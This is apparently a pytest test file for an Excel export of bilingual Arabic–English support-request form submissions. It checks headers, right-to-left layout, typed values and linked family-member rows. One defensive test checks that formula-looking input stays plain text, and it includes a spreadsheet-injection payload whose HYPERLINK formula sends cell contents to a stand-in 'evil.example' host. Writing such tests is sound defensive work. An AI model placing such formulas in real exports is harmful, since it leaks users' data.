"""Tests for submissions/export.py: the Excel export of a form's submissions."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from forms.definition import parse_definition
from submissions.export import export_xlsx, sheet_title

CHOICES_RELATION = [
    {"value": "son", "label": {"ar": "ابن", "en": "Son"}},
    {"value": "daughter", "label": {"ar": "ابنة", "en": "Daughter"}},
]
DEFINITION = {
    "id": "support_request",
    "version": 2,
    "title": {"ar": "طلب دعم: [أسر]/محتاجة", "en": "Support request"},
    "choice_lists": {"relation": CHOICES_RELATION},
    "sections": [
        {
            "name": "applicant",
            "title": {"ar": "مقدم الطلب", "en": "Applicant"},
            "fields": [
                {"name": "intro", "type": "note", "label": {"ar": "اقرأ", "en": "Read"}},
                {"name": "full_name", "type": "text", "label": {"ar": "الاسم", "en": "Name"}},
                {"name": "age", "type": "integer", "label": {"ar": "العمر", "en": "Age"}},
                {"name": "income", "type": "decimal", "label": {"ar": "الدخل", "en": "Income"}},
                {"name": "birth_date", "type": "date", "label": {"ar": "الميلاد", "en": "Born"}},
                {
                    "name": "income_sources",
                    "type": "select_multiple",
                    "label": {"ar": "مصادر الدخل", "en": "Income sources"},
                    "choices": [
                        {"value": "salary", "label": {"ar": "راتب", "en": "Salary"}},
                        {"value": "social", "label": {"ar": "ضمان", "en": "Social security"}},
                    ],
                },
                {"name": "has_debts", "type": "yes_no", "label": {"ar": "ديون؟", "en": "Debts?"}},
                {"name": "id_copy", "type": "file", "label": {"ar": "الهوية", "en": "ID copy"}},
            ],
        },
        {
            "name": "family",
            "title": {"ar": "الأسرة", "en": "Family"},
            "fields": [
                {
                    "name": "family_members",
                    "type": "repeat",
                    "label": {"ar": "أفراد الأسرة", "en": "Family members"},
                    "fields": [
                        {"name": "member_name", "type": "text", "label": {"ar": "اسم الفرد"}},
                        {
                            "name": "relation",
                            "type": "select_one",
                            "label": {"ar": "الصلة", "en": "Relation"},
                            "choices": "relation",
                        },
                    ],
                },
                {"name": "notes", "type": "textarea", "label": {"ar": "ملاحظات", "en": "Notes"}},
            ],
        },
    ],
}
AR_HEADERS = [
    "رقم المرجع",
    "التاريخ",
    "التاريخ الهجري",
    "قناة الاستقبال",
    "أدخله",
    "إصدار النموذج",
    "الاسم",
    "العمر",
    "الدخل",
    "الميلاد",
    "مصادر الدخل",
    "ديون؟",
    "الهوية",
    "ملاحظات",
    "إجابات خارج النموذج",
]


@pytest.fixture
def form():
    return parse_definition(DEFINITION)


def record(n: int = 1, **answers) -> dict:
    return {
        "id": n,
        "ref": f"SR-1445-{n:05d}",
        "form_id": "support_request",
        "form_version": 2,
        "answers": answers,
        "channel": "interview",
        "entered_by": "staff",
        "created_at": "2023-11-15T22:30:00+00:00",
    }


FULL = record(
    1,
    full_name="محمد",
    age=42,
    income=3500.5,
    birth_date="1990-05-01",
    income_sources=["salary", "social"],
    has_debts=True,
    id_copy={"sha256": "ab", "type": "pdf", "size": 1234, "name": "id.pdf"},
    family_members=[
        {"member_name": "سارة", "relation": "daughter"},
        {"member_name": "علي", "relation": "son"},
    ],
)


def export(form, records, **kwargs):
    """Export to memory and read the workbook back in normal mode."""
    buf = io.BytesIO()
    count = export_xlsx(form, iter(records), buf, **kwargs)
    buf.seek(0)
    return count, load_workbook(buf)


def rows(ws) -> list[list]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


def test_headers_are_arabic_and_in_definition_order(form):
    _count, wb = export(form, [FULL])
    main, family = wb.worksheets
    assert rows(main)[0] == AR_HEADERS
    assert rows(family)[0] == ["رقم المرجع", "رقم الصف", "اسم الفرد", "الصلة", AR_HEADERS[-1]]
    assert family.title == "أفراد الأسرة"


def test_sheet_title_drops_forbidden_characters_and_fits_31(form):
    _count, wb = export(form, [])
    assert wb.worksheets[0].title == "طلب دعم أسر محتاجة"
    taken = set()
    long = sheet_title("ا" * 40 + "?*", taken)
    assert len(long) == 31 and "?" not in long
    assert sheet_title("ا" * 40, taken).endswith(" (2)")
    assert len(sheet_title("ا" * 40, taken)) == 31


def test_sheets_are_right_to_left_with_bold_frozen_header(form):
    _count, wb = export(form, [FULL])
    for ws in wb.worksheets:
        assert ws.sheet_view.rightToLeft is True
        assert ws.freeze_panes == "A2"
        assert ws["A1"].font.b is True
        assert ws.column_dimensions["A"].width == 18


def test_values_are_typed(form):
    _count, wb = export(form, [FULL], channel_label={"interview": "مقابلة"}.get)
    main = wb.worksheets[0]
    values = rows(main)[1]
    # 22:30 UTC on 15 November is 01:30 on the 16th in Riyadh (1445/05/02).
    assert values[:6] == [
        "SR-1445-00001",
        dt.datetime(2023, 11, 16, 1, 30),
        "1445/05/02 هـ",
        "مقابلة",
        "staff",
        2,
    ]
    assert values[6:] == [
        "محمد",
        42,
        3500.5,
        dt.datetime(1990, 5, 1),
        "راتب، ضمان",
        "نعم",
        "id.pdf",
        None,
        None,
    ]
    assert main["H2"].data_type == "n" and main["I2"].data_type == "n"
    assert main["J2"].is_date and main["J2"].number_format == "yyyy/mm/dd"
    assert main["B2"].is_date and main["B2"].number_format == "yyyy/mm/dd hh:mm"


def test_repeat_rows_are_linked_by_reference(form):
    second = record(2, full_name="خالد", family_members=[{"member_name": "هند"}])
    _count, wb = export(form, [FULL, record(3), second])
    assert rows(wb.worksheets[1])[1:] == [
        ["SR-1445-00001", 1, "سارة", "ابنة", None],
        ["SR-1445-00001", 2, "علي", "ابن", None],
        ["SR-1445-00002", 1, "هند", None, None],
    ]


def test_english_headers_and_labels(form):
    _count, wb = export(form, [FULL], lang="en")
    main, family = wb.worksheets
    header, first = rows(main)[:2]
    assert header[:3] == ["Reference number", "Date", "Hijri date"]
    assert header[6:9] == ["Name", "Age", "Income"]
    assert first[2] == "1445/05/02 AH"
    assert first[10:12] == ["Salary, Social security", "Yes"]
    assert main.title == "Support request"
    # A sub-field with no English label falls back to Arabic.
    assert rows(family)[0][2:4] == ["اسم الفرد", "Relation"]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://evil.example/?"&A1,"انقر")',
        "+966500000000",
        "-2+3",
        "@SUM(A1:A2)",
        "  =1+1",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_looking_text_stays_text(form, text):
    _count, wb = export(form, [record(1, full_name=text, family_members=[{"member_name": text}])])
    for ws, col in ((wb.worksheets[0], "G"), (wb.worksheets[1], "C")):
        cell = ws[f"{col}2"]
        assert cell.data_type == "s"
        assert cell.value == text
        assert cell.quotePrefix is True


def test_control_characters_are_replaced_not_fatal(form):
    nasty = "a\x00b\x07c\x1b\ufffe\ud800d\ttab"
    _count, wb = export(form, [record(1, full_name=nasty, notes="سطر\nسطر")])
    values = rows(wb.worksheets[0])[1]
    assert values[6] == "a\ufffdb\ufffdc\ufffd\ufffd\ufffdd\ttab"
    assert values[13] == "سطر\nسطر"


def test_bad_stored_values_do_not_stop_the_export(form):
    bad = record(1, birth_date="not a date", family_members="oops")
    bad["created_at"] = "yesterday"
    count, wb = export(form, [bad, FULL])
    assert count == 2
    values = rows(wb.worksheets[0])[1]
    assert values[1:3] == ["yesterday", None]
    assert values[9] == "not a date"


def test_answers_outside_the_definition_are_kept(form):
    old = record(1, full_name="محمد", old_field="قديم", old_flag=False)
    _count, wb = export(form, [old])
    assert rows(wb.worksheets[0])[1][-1] == "old_field: قديم\nold_flag: لا"


def test_empty_iterator_gives_header_only_sheets(form):
    count, wb = export(form, [])
    assert count == 0
    assert [len(rows(ws)) for ws in wb.worksheets] == [1, 1]


def test_returns_submissions_written_and_consumes_records_once(form, tmp_path):
    seen = []

    def records():
        for n in range(1, 6):
            seen.append(n)
            yield record(n, full_name=f"اسم {n}")

    out = tmp_path / "export.xlsx"
    assert export_xlsx(form, records(), out) == 5
    assert seen == [1, 2, 3, 4, 5]
    assert len(rows(load_workbook(out).worksheets[0])) == 6
